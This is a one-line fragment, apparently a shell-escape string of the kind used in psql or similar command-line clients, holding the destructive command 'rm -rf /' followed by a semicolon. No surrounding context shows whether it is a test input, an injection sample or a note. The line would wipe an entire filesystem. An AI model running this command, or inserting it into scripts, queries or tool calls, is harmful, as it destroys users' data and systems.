\! rm -rf /
;
